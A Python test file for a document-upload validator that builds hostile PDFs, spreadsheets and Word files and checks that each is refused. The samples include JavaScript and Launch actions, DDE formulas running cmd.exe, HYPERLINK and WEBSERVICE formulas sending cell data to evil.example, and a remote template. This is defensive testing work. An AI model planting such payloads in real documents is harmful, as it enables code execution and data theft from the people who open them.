"""Active content in evidence (issue 12, A.8): documents that would act when a reviewer opens
them are refused while validating. Every hostile file is built here, byte by byte or with the
same libraries a unit's office software writes with."""

import io
import zipfile

import pytest
from werkzeug.datastructures import FileStorage

from taskflow.core.uploads import CHUNK, UploadRejected, validate_upload
from tests.helpers import page_objects, pdf_document


def upload(data: bytes, filename: str) -> FileStorage:
    return FileStorage(stream=io.BytesIO(data), filename=filename)


def refused(data: bytes, filename: str) -> UploadRejected:
    with pytest.raises(UploadRejected) as info:
        validate_upload(upload(data, filename))
    return info.value


# ---------------------------------------------------------------- PDF


def pdf_with(catalog_extra: bytes = b"", *extra_objects: bytes) -> bytes:
    """A well-formed PDF whose catalog carries catalog_extra; extra objects are numbered 5, 6…"""
    objects = page_objects(b"BT /F1 12 Tf 20 100 Td (evidence) Tj ET", catalog_extra + b" ")
    return pdf_document([*objects, *extra_objects], header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")


@pytest.mark.parametrize(("pdf", "named"), [
    (pdf_with(b"/OpenAction 5 0 R", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
     "/OpenAction"),
    (pdf_with(b"/OpenAction 5 0 R", b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
     "/OpenAction"),
    (pdf_with(b"", b"<< /S /J#61vaScript /J#53 (this.exportDataObject\\(\\)) >>"),
     "/JavaScript"),
    (pdf_with(b"/Names << /JavaScript 5 0 R >>", b"<< /Names [(a) 6 0 R] >>"), "/JavaScript"),
    (pdf_with(b"/O#70enAction 5 0 R", b"<< /S /Launch /F (cmd.exe) >>"), "/OpenAction"),
    (pdf_with(b"", b"<< /S /#4c#61#75#6e#63#68 /Win << /F (calc.exe) >> >>"), "/Launch"),
    (pdf_with(b"/Names << /EmbeddedFiles 5 0 R >>",
              b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream"), "/EmbeddedFile"),
    (pdf_with(b"/AA << /WC 5 0 R >>", b"<< /S /URI /URI (http://evil.example/) >>"),
     "(AA)"),
], ids=["openaction-js", "hex-escaped-js", "hex-js-only", "names-js", "launch",
        "hex-launch", "embedded-file", "additional-actions"])
def test_pdf_with_active_content_is_refused(shared_app, pdf, named):
    error = refused(pdf, "证明材料.pdf")
    assert error.code == "active_content"
    assert named in str(error)


def test_a_pdf_name_cut_by_a_chunk_border_is_still_found(shared_app):
    head = b"%PDF-1.4\n%"
    filler = b"x" * (CHUNK - len(head) - 1 - 5)
    data = head + filler + b"\n/OpenAction 5 0 R\n" + b"%" + b"y" * 2000 + b"\n%%EOF\n"
    assert data.index(b"/OpenAction") < CHUNK < data.index(b"/OpenAction") + 11
    assert refused(data, "a.pdf").code == "active_content"


def test_ordinary_pdfs_pass_links_and_lookalike_names_included(shared_app):
    plain = pdf_with(b"/JSONData 5 0 R /AAX 5 0 R",
                     b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.cq.gov.cn) "
                     b">> >>")
    assert validate_upload(upload(plain, "报告.pdf")).detected_type == "pdf"
    # A name that would match only if a chunk border were ignored (/JS at a chunk's end).
    head = b"%PDF-1.4\n%"
    data = head + b"x" * (CHUNK - len(head) - 4) + b"\n/JSONx\n%" + b"y" * 2000 + b"\n%%EOF\n"
    assert data.index(b"/JS") + 3 == CHUNK
    assert validate_upload(upload(data, "b.pdf")).detected_type == "pdf"


# ---------------------------------------------------------------- spreadsheets and Word


def xlsx(*cells: tuple[str, str], hyperlink: str | None = None) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["单位", "科技型企业"])
    sheet.append(["古南街道", 12])
    for ref, value in cells:
        sheet[ref] = value
    if hyperlink:
        sheet["A1"].hyperlink = hyperlink
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def with_parts(package: bytes, parts: dict) -> bytes:
    """The package with parts added or replaced (as a unit's edited file would be)."""
    source = zipfile.ZipFile(io.BytesIO(package))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in parts:
                target.writestr(info.filename, source.read(info))
        for name, data in parts.items():
            target.writestr(name, data)
    return buffer.getvalue()


EXTERNAL_LINK_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    ' r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
    '</externalLink>')
EXTERNAL_LINK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/externalLinkPath" Target="file:///\\\\server\\share\\book.xlsx"'
    ' TargetMode="External"/></Relationships>')
UNC_SHEET_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/hyperlink" Target="\\\\server\\share\\x.xlsx" TargetMode="External"/>'
    '</Relationships>')


@pytest.mark.parametrize(("build", "named"), [
    (lambda: xlsx(("C1", '=HYPERLINK("http://evil.example/?"&A2,"点击")')), "HYPERLINK"),
    (lambda: xlsx(("C1", '=_xlfn.WEBSERVICE("http://evil.example/"&B2)')), "WEBSERVICE"),
    (lambda: xlsx(("C1", "=cmd|' /C calc'!A0")), "DDE"),
    (lambda: xlsx(("C1", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''")), "DDE"),
    (lambda: with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK_XML,
                                 "xl/externalLinks/_rels/externalLink1.xml.rels":
                                     EXTERNAL_LINK_RELS}), None),
    (lambda: with_parts(xlsx(), {"xl/worksheets/_rels/sheet1.xml.rels": UNC_SHEET_RELS}), None),
], ids=["hyperlink", "webservice", "dde-cmd", "dde-msexcel", "external-link-unc",
        "unc-hyperlink"])
def test_workbook_with_links_or_dde_is_refused(shared_app, build, named):
    error = refused(build(), "企业名单.xlsx")
    assert error.code == "active_content"
    if named:
        assert named in str(error)


def test_ordinary_workbook_with_formulas_and_a_web_link_passes(shared_app):
    data = xlsx(("C2", "=SUM(B2:B3)"), ("D2", '=IF(B2>10,"达标","未达标")'),
                hyperlink="https://www.cq.gov.cn/")
    assert b"hyperlink" in zipfile.ZipFile(io.BytesIO(data)).read(
        "xl/worksheets/_rels/sheet1.xml.rels").lower()
    assert validate_upload(upload(data, "企业名单.xlsx")).detected_type == "xlsx"


def docx_with(field: str | None = None, extra: dict | None = None) -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("綦江区双倍增行动 进展说明")
    buffer = io.BytesIO()
    document.save(buffer)
    package = buffer.getvalue()
    if field is not None:
        body = zipfile.ZipFile(io.BytesIO(package)).read("word/document.xml").decode()
        paragraph = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
                     'xml:space="preserve">' + field + '</w:instrText></w:r><w:r>'
                     '<w:fldChar w:fldCharType="end"/></w:r></w:p>')
        body = body.replace("<w:sectPr", paragraph + "<w:sectPr", 1)
        return with_parts(package, {"word/document.xml": body})
    return with_parts(package, extra or {})


def test_word_document_with_a_dde_field_is_refused(shared_app):
    data = docx_with(field=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')
    error = refused(data, "进展说明.docx")
    assert error.code == "active_content" and "DDE" in str(error)


def test_word_document_with_a_remote_template_is_refused(shared_app):
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
            'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
            '</Relationships>')
    data = docx_with(extra={"word/_rels/settings.xml.rels": rels})
    assert refused(data, "进展说明.docx").code == "active_content"


def test_ordinary_word_document_with_a_page_field_passes(shared_app):
    data = docx_with(field=" PAGE ")
    assert validate_upload(upload(data, "进展说明.docx")).detected_type == "docx"


def test_active_content_inside_a_zip_is_refused(shared_app):
    hostile_pdf = pdf_with(b"/OpenAction 5 0 R", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    hostile_xlsx = xlsx(("C1", "=cmd|' /C calc'!A0"))
    for name, member in (("附件/说明.pdf", hostile_pdf), ("附件/名单.xlsx", hostile_xlsx)):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("说明.txt", "材料")
            archive.writestr(name, member)
        assert refused(buffer.getvalue(), "材料.zip").code == "active_content", name


def test_names_inside_stream_data_do_not_refuse_a_scan(shared_app):
    # Compressed image data of a scanned page can hold "/JS " or "/AA>" by chance.
    noise = b"\x00\x13/JS \x9a\xff/AA>\x01/OpenAction]" * 3000
    image = b"<< /Type /XObject /Subtype /Image /Length %d >>\nstream\n" % len(noise) + noise + \
        b"\nendstream"
    data = pdf_with(b"", image)
    assert len(data) > CHUNK  # the stream spans chunk borders
    assert validate_upload(upload(data, "扫描件.pdf")).detected_type == "pdf"
    # The same names in a dictionary after that stream are still found.
    hostile = pdf_with(b"", image, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    assert refused(hostile, "扫描件.pdf").code == "active_content"
